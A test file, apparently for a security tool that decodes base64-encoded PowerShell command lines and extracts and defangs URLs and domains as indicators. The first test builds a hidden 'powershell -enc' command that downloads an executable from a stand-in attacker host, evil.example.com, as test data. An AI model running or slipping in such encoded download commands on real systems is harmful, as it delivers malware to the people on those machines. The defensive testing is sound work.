import { readCommandLine } from './commandLineReading';

it('decodes a command line, and finds its indicators and those of what was encoded', () => {
  const encoded = Buffer.from('iwr http://evil.example.com/a.exe', 'utf16le').toString('base64');
  const { items, indicators, defanged, notes } = readCommandLine(`powershell -enc ${encoded} http://a.example.org/x`);
  expect(items.map(({ text, encoding, defanged: shown }) => [text, encoding, shown])).toEqual([
    ['iwr http://evil.example.com/a.exe', 'utf-16le', 'iwr hXXp://evil[.]example[.]com/a.exe'],
  ]);
  expect(indicators.map(({ defanged: shown }) => shown)).toEqual([
    'hXXp://a[.]example[.]org/x',
    'a[.]example[.]org',
    'hXXp://evil[.]example[.]com/a.exe',
    'evil[.]example[.]com',
  ]);
  expect(defanged).toBe(`powershell -enc ${encoded} hXXp://a[.]example[.]org/x`);
  expect(notes).toEqual([]);
});

it('gives bytes that are no text no text to show', () => {
  const { items } = readCommandLine(Buffer.from(Array.from({ length: 60 }, (_, at) => 128 + at)).toString('base64'));
  expect(items.map(({ text, defanged }) => [text, defanged])).toEqual([[null, '']]);
});

it('finds nothing in nothing', () => {
  expect(readCommandLine('')).toEqual({ items: [], indicators: [], defanged: '', notes: [] });
});
